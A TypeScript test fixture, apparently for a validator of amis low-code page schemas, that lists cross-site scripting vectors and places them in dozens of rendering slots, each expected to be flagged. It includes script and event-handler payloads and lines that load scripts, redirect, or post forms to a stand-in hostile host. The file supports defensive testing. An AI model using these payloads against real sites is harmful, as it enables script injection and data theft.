import { evil, hostile, mark, type HostilePage } from './hostile-page';

/** HTML that executes code or sends requests. */
const acting: readonly [string, string][] = [
  ['a script', `<script>${mark}</script>`],
  ['a script with a slash', `<script/x>${mark}</script>`],
  ['a script in capitals', `<SCRIPT SRC=//${evil}/x.js></SCRIPT>`],
  ['an onerror', `<img src=x onerror=${mark}>`],
  ['an onerror after a slash', `<img/src=x/onerror=${mark}>`],
  ['an onerror after a quoted end', `<img title=">" onerror="${mark}">`],
  ['an onerror on its own line', `<img src=x\nonerror\n=\n${mark}>`],
  ['an onload of an SVG', `<svg/onload=${mark}>`],
  ['an ontoggle', `<details open ontoggle=${mark}>x</details>`],
  ['an onmouseover', `<b onmouseover=${mark}>x</b>`],
  ['an onbegin', `<svg><rect onbegin=${mark}></svg>`],
  ['an animated link', `<svg><a><animate attributeName=href values=javascript:${mark} /></a></svg>`],
  ['a set', `<svg><set attributeName=onmouseover to=${mark} /></svg>`],
  ['a foreignObject', `<svg><foreignObject><b>x</b></foreignObject></svg>`],
  ['a use', `<svg><use href="data:image/svg+xml,x"/></svg>`],
  ['MathML', `<math><mtext>x</mtext></math>`],
  ['a frame', `<iframe src="/x"></iframe>`],
  ['a frame with its document', `<iframe srcdoc="<script>${mark}</script>"></iframe>`],
  ['an object', `<object data="/x"></object>`],
  ['an embed', `<embed src="/x">`],
  ['a base', `<base href="//${evil}/">`],
  ['a refresh', `<meta http-equiv="refresh" content="0;url=https://${evil}/">`],
  ['a sheet', `<link rel=stylesheet href="//${evil}/x.css">`],
  ['a style', `<style>body{display:none}</style>`],
  ['a form', `<form action="//${evil}/"><input name=a></form>`],
  ['a button that sends', `<button formaction="//${evil}/">x</button>`],
  ['a template', `<template><b>x</b></template>`],
  ['a noscript', `<noscript><p title="</noscript><img src=x onerror=${mark}>"></noscript>`],
  ['a tag that an expression builds', "${'<scr' + 'ipt>'}alert(1)"],
  ['an attribute that an expression builds', "${'<img src=x on' + 'error=alert(1)>' | raw}"],
];

/** Every place where amis renders HTML. */
const places: readonly [string, (html: string) => object][] = [
  ['a tpl', (tpl) => ({ type: 'tpl', tpl })],
  ['an html', (html) => ({ type: 'html', html })],
  ['a text', (body) => ({ type: 'container', body })],
  ['a tooltip', (tooltip) => ({ type: 'button', label: 'a', tooltip })],
  [
    'a tooltip of an object',
    (content) => ({ type: 'tooltip-wrapper', tooltip: { title: 'a', content }, body: 'x' }),
  ],
  ['a remark', (content) => ({ type: 'remark', content })],
  ['a remark of a field', (body) => ({ type: 'input-text', name: 'a', labelRemark: { body } })],
  ['a label', (label) => ({ type: 'input-text', name: 'a', label })],
  ['a description', (description) => ({ type: 'input-text', name: 'a', description })],
  [
    'a placeholder',
    (placeholder) => ({ type: 'crud', api: '/api/admin/feedback/list', columns: [], placeholder }),
  ],
  ['a confirmation', (confirmText) => ({ type: 'button', label: 'a', confirmText })],
  [
    'a toast',
    (msg) => ({
      type: 'button',
      label: 'a',
      onEvent: { click: { actions: [{ actionType: 'toast', args: { msg } }] } },
    }),
  ],
  [
    'a message',
    (success) => ({
      type: 'form',
      body: [],
      api: { url: '/api/admin/feedback/edit', messages: { success } },
    }),
  ],
  [
    'a dialog',
    (body) => ({ type: 'button', label: 'a', actionType: 'dialog', dialog: { title: 'a', body } }),
  ],
  [
    'a drawer title',
    (title) => ({ type: 'button', label: 'a', actionType: 'drawer', drawer: { title, body: 'x' } }),
  ],
  ['an alert', (body) => ({ type: 'alert', body })],
  ['a mapping', (text) => ({ type: 'mapping', value: '1', map: { '1': text } })],
  ['a column', (tpl) => ({ type: 'crud', api: '/api/admin/feedback/list', columns: [{ type: 'tpl', tpl }] })],
  [
    'a column label',
    (label) => ({ type: 'crud', api: '/api/admin/feedback/list', columns: [{ name: 'mobile', label }] }),
  ],
  ['an option', (label) => ({ type: 'radios', name: 'a', options: [{ label, value: 1 }] })],
  [
    'a menu template',
    (menuTpl) => ({ type: 'select', name: 'a', menuTpl, options: [{ label: 'a', value: 1 }] }),
  ],
  ['a slide', (html) => ({ type: 'carousel', options: [{ html }] })],
  ['marked-down text', (value) => ({ type: 'markdown', value })],
  ['an icon', (icon) => ({ type: 'icon', icon })],
  ['a tab', (title) => ({ type: 'tabs', tabs: [{ title, body: 'x' }] })],
  ['a step', (title) => ({ type: 'steps', steps: [{ title }] })],
  ['a timeline', (title) => ({ type: 'timeline', items: [{ time: 'a', title }] })],
  [
    'a schedule',
    (content) => ({
      type: 'calendar',
      schedules: [{ startTime: '2026-01-01', endTime: '2026-01-02', content }],
    }),
  ],
  ['a tooltip of a chart', (formatter) => ({ type: 'chart', config: { tooltip: { formatter } } })],
  ['a badge', (text) => ({ type: 'button', label: 'a', badge: { mode: 'text', text } })],
  [
    'a popover',
    (body) => ({
      type: 'crud',
      api: '/api/admin/feedback/list',
      columns: [{ name: 'mobile', popOver: { body } }],
    }),
  ],
  [
    'data for an expression',
    (html) => ({ type: 'service', data: { html }, body: { type: 'tpl', tpl: '${html | raw}' } }),
  ],
];

const loading = [
  `<img src="//${evil}/x.png">`,
  `<img src=https://${evil}/x.png>`,
  `<img srcset="//${evil}/x.png 1x">`,
  `<video poster='//${evil}/x.png'></video>`,
  `<table background="//${evil}/x.png"></table>`,
  `<img src="\\\\${evil}\\x.png">`,
  `<a href="https://${evil}" target="_blank">x</a>`,
  `<a href="https://${evil}" target=_top>x</a>`,
].map((tpl, at) => hostile(`HTML of elsewhere, ${at + 1}`, 'outside/foreign-content', { type: 'tpl', tpl }));

export const htmlPages: readonly HostilePage[] = [
  ...acting.map(([what, html]) =>
    hostile(`HTML with ${what}`, 'script/no-html-script', { type: 'tpl', tpl: html }),
  ),
  ...places.map(([where, make]) =>
    hostile(`HTML in ${where}`, 'script/no-html-script', make(`<img src=x onerror=${mark}>`)),
  ),
  ...loading,
  hostile('HTML by the back door', 'structure/reserved-property', {
    type: 'container',
    body: 'x',
    dangerouslySetInnerHTML: { __html: 'x' },
  }),
  hostile('an element without its filter', 'structure/reserved-property', { type: 'tpl', tpl: 'x', env: {} }),
  hostile('an element with another component', 'structure/reserved-property', {
    type: 'tpl',
    tpl: 'x',
    component: 'script',
  }),
];
